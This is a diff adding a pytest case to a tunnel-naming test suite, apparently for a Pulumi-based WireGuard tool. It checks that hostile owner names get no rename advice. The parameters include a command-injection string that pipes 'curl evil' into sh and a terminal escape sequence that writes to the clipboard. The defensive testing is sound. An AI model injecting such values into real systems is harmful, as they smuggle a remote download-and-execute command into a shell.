@@ -111,6 +111,13 @@ def test_a_stack_that_was_renamed_is_told_the_way_back(owner: str, way_back: str
     assert (way_back or "") in advice
 
 
+@pytest.mark.parametrize("owner", ["x;curl${IFS}evil|sh", "\x1b]52;c;aGk=\x07", "-x", "a/b"])
+def test_no_command_is_made_of_what_is_no_stacks_name(owner: str) -> None:
+    advice = only(facts_text(f"wg0 reverse-tunnel/{owner} 51820 172.16.0.1/24"))
+    assert "already has a tunnel wg0, of the stack (unreadable). Choose another name" in advice
+    assert "rename" not in advice
+
+
 def test_a_name_taken_by_an_interface_that_no_up_has_made_is_said() -> None:
     text = facts_text(interfaces="lo ens6 wg0")
     assert "interface wg0, which `pulumi up` has not made" in only(text)
